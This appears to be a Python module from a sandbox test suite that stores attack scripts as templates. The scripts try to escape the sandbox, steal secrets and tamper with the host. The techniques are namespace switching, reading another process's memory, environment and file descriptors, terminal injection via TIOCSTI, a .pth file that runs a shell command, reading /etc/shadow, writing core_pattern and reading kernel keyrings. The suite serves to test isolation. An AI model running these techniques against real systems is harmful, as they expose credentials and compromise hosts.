"""The attacks of the hostile suite on the application and the host, as code for one run each.

Placeholders (@APP_PID@, @CANARY_ADDR@, ...) are filled in by `sandbox_app.py` with what
a real attacker would find out by looking around.
"""

from __future__ import annotations

# Attacks that would damage the machine if they worked (unmounting the host's /proc) check
# first that they are not plainly in the host's mount namespace: a failing sandbox then
# still fails its test, without breaking the machine the tests run on.
HOST_NS = r"""
def host_mount_namespace():
    try:
        return os.readlink("/proc/self/ns/mnt") == os.readlink("/proc/@APP_PID@/ns/mnt")
    except OSError:
        return False
"""

NETWORK = (
    r"""
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
"""
    + HOST_NS
    + r"""
def attempt(label):
    try:
        s = socket.create_connection(("127.0.0.1", @PORT@), timeout=1)
        s.sendall(b"DELETE /api/delete HTTP/1.0\r\nContent-Length: 0\r\n\r\n")
        print(label, "TCP DELIVERED", s.recv(100))
    except OSError as e:
        print(label, "blocked", e)
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"UDP " + label.encode(), ("127.0.0.1", @PORT@))
        print(label, "UDP SENT")
    except OSError as e:
        print(label, "udp blocked", e)
attempt("direct")
for path in ("/proc/1/ns/net", "/proc/@APP_PID@/ns/net"):
    try:
        fd = os.open(path, os.O_RDONLY)
        print(path, "setns", libc.setns(fd, 0x40000000), ctypes.get_errno())
        attempt("after setns " + path)
    except OSError as e:
        print(path, "blocked", e)
if not host_mount_namespace():
    print("umount /proc", libc.umount2(b"/proc", 2), ctypes.get_errno())
print("unshare user+net", libc.unshare(0x10000000 | 0x40000000), ctypes.get_errno())
attempt("after umount")
"""
)

ENVIRON = (
    r"""
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
"""
    + HOST_NS
    + r"""
if not host_mount_namespace():
    print("umount /proc", libc.umount2(b"/proc", 2), ctypes.get_errno())
    print("mount proc", libc.mount(b"proc", b"/proc", b"proc", 0, None), ctypes.get_errno())
found = []
for path in ["/proc/@APP_PID@/environ", "/proc/1/environ"] + glob.glob("/proc/[0-9]*/environ"):
    try:
        found.append(open(path, "rb").read())
    except OSError:
        pass
print(len(found), b"".join(found))
"""
)

APP_MEMORY = r"""
import ctypes, os
pid, addr, n = @APP_PID@, @CANARY_ADDR@, @CANARY_LEN@
for mode in (os.O_RDWR, os.O_RDONLY):
    try:
        fd = os.open(f"/proc/{pid}/mem", mode)
        print("READ", os.pread(fd, n, addr))
        if mode == os.O_RDWR:
            os.pwrite(fd, b"X" * n, addr)
            print("WROTE")
    except OSError as e:
        print("mem blocked", e)
libc = ctypes.CDLL(None, use_errno=True)
print("ptrace attach", libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
"""

APP_FDS = r"""
import glob, os
for path in glob.glob("/proc/@APP_PID@/fd/*") + ["/proc/@APP_PID@/fd/@SECRET_FD@"]:
    try:
        print(path, os.open(path, os.O_RDONLY) and "opened")
        print(open(path).read())
    except OSError as e:
        print(path, "blocked", e)
try:
    print(os.read(@SECRET_FD@, 100))
except OSError as e:
    print("inherited fd blocked", e)
"""

KILL_OTHERS = r"""
import os, signal
for pid in (@APP_PID@, @SLEEPER_PID@):
    try:
        os.kill(pid, signal.SIGKILL)
        print("KILLED", pid)
    except OSError as e:
        print("kill blocked", pid, e)
"""

TIOCSTI = r"""
import fcntl, os, termios
payload = b"echo @TOKEN@-TTY\n"
# Only the application's own terminal: never the other terminals of the machine.
for path in ["/dev/tty", "/proc/@APP_PID@/fd/0", "@TTY@"]:
    try:
        fd = os.open(path, os.O_RDWR)
    except OSError as e:
        print(path, "open blocked", e)
        continue
    try:
        fcntl.ioctl(fd, termios.TIOCSCTTY, 1)
    except OSError as e:
        print(path, "no controlling tty", e)
    try:
        for ch in payload:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
        print(path, "INJECTED")
    except OSError as e:
        print(path, "ioctl blocked", e)
"""

HOST_WRITES = r"""
import os, sys
targets = @SITE_DIRS@ + [sys.prefix, "@APP_DIR@"]
for d in targets:
    p = os.path.join(d, "orq_pwned_@TOKEN@.pth")
    try:
        with open(p, "w") as f:
            f.write("import os; os.system('touch /tmp/PWNED-@TOKEN@')\n")
        print("WROTE", p)
    except OSError as e:
        print("blocked", p, e)
try:
    with open("@APP_DIR@/.env", "a") as f:
        f.write("TAMPERED\n")
    print("TAMPERED .env")
except OSError as e:
    print(".env blocked", e)
"""

LINKS = r"""
import os
out = []
for how in ("symlink", "link"):
    name = f"via-{how}"
    try:
        getattr(os, how)("@APP_DIR@/.env", name)
    except OSError as e:
        print(how, "blocked", e)
        continue
    try:
        out.append(open(name).read())
        with open(name, "a") as f:
            f.write("TAMPERED\n")
        print(how, "TAMPERED")
    except OSError as e:
        print(how, "use blocked", e)
for path in ("@APP_DIR@/.env", "@APP_DIR@/secret.txt", "@CACHE_FILE@"):
    try:
        out.append(open(path).read())
    except OSError as e:
        print(path, "blocked", e)
print(out)
"""

SECRETS_ON_DISK = r"""
import os
for p in ("/etc/shadow", "/etc/gshadow", "/proc/1/root/etc/shadow"):
    try:
        print(p, repr(open(p).read()[:300]))
    except OSError as e:
        print(p, "blocked", e)
for d in ("/root", "/home", "@HOME@", "@HOME@/.cache", "@APP_DIR@"):
    try:
        print("LISTED", d, os.listdir(d))
    except OSError as e:
        print(d, "blocked", e)
"""

KERNEL_AND_MOUNTS = r"""
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
try:
    current = open("/proc/sys/kernel/core_pattern").read()
    with open("/proc/sys/kernel/core_pattern", "w") as f:
        f.write(current)  # the same value: a write that works is the finding, not the value
    print("CORE_PATTERN WRITTEN")
except OSError as e:
    print("core_pattern blocked", e)
os.makedirs("m", exist_ok=True)
for target in (b"m", b"@MOUNT_TARGET@"):
    print("mount", target, libc.mount(b"tmpfs", target, b"tmpfs", 0, None), ctypes.get_errno())
print("chattr", subprocess.run(["chattr", "+i", "main.py"], capture_output=True).returncode)
"""

PRIVILEGES = r"""
import os
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
print("uid", os.getuid(), os.geteuid(), "gid", os.getgid(), "groups", os.getgroups())
for key in ("CapEff", "CapPrm", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"):
    print(key, status[key].strip())
try:
    print("ctty", os.open("/dev/tty", os.O_RDWR))
except OSError as e:
    print("no ctty", e.errno)
print("sid", os.getsid(0) == os.getpid() or os.getsid(0))
"""

# The kernel keyring, through every door: the keyrings' listings, each planted key by
# serial and by name, a new key, and /proc/keys. @KEY_SERIALS@ and @KEY_NAMES@ are the
# keys the application put in its user and session keyrings before the runs.
KEYRING = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, REQUEST_KEY, KEYCTL = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[
    os.uname().machine
]
KEYCTL_DESCRIBE, KEYCTL_UNLINK, KEYCTL_SEARCH, KEYCTL_READ = 6, 9, 10, 11
RINGS = {"thread": -1, "process": -2, "session": -3, "user": -4, "user-session": -5}
buf = ctypes.create_string_buffer(4096)
print("PLANTED", len(@KEY_SERIALS@))

def call(label, *args):
    ctypes.set_errno(0)
    result = libc.syscall(*(a if isinstance(a, (bytes, ctypes.Array)) or a is None
                            else ctypes.c_long(a) for a in args))
    print(label, "->", result, "errno", ctypes.get_errno())
    return result

def read(label, serial):
    n = call("read " + label, KEYCTL, KEYCTL_READ, serial, buf, len(buf))
    if n > 0:
        print("READ", label, buf.raw[: min(n, len(buf))])

found = list(@KEY_SERIALS@)
for name, ring in RINGS.items():
    n = call("list " + name, KEYCTL, KEYCTL_READ, ring, buf, len(buf))
    if n > 0:
        found += [int.from_bytes(buf.raw[i : i + 4], "little") for i in range(0, min(n, 4096), 4)]
    for key in @KEY_NAMES@:
        hit = call("search " + name, KEYCTL, KEYCTL_SEARCH, ring, b"user", key.encode(), 0)
        if hit > 0:
            found.append(hit)
for key in @KEY_NAMES@:
    hit = call("request_key", REQUEST_KEY, b"user", key.encode(), None, 0)
    if hit > 0:
        found.append(hit)
for serial in dict.fromkeys(found):
    if call("describe", KEYCTL, KEYCTL_DESCRIBE, serial, buf, len(buf)) > 0:
        print("DESCRIBED", buf.value)
    read(str(serial), serial)
added = call("add_key", ADD_KEY, b"user", b"orq-run-@TOKEN@", b"kept", 4, -4)
if added > 0:  # the finding; the key itself must not outlive the test
    call("unlink", KEYCTL, KEYCTL_UNLINK, added, RINGS["user"])
try:
    with open("/proc/keys") as proc_keys:
        for line in proc_keys:
            if "orq-canary" in line:
                print("LISTED", line.strip())
except OSError as e:
    print("/proc/keys blocked", e)
"""
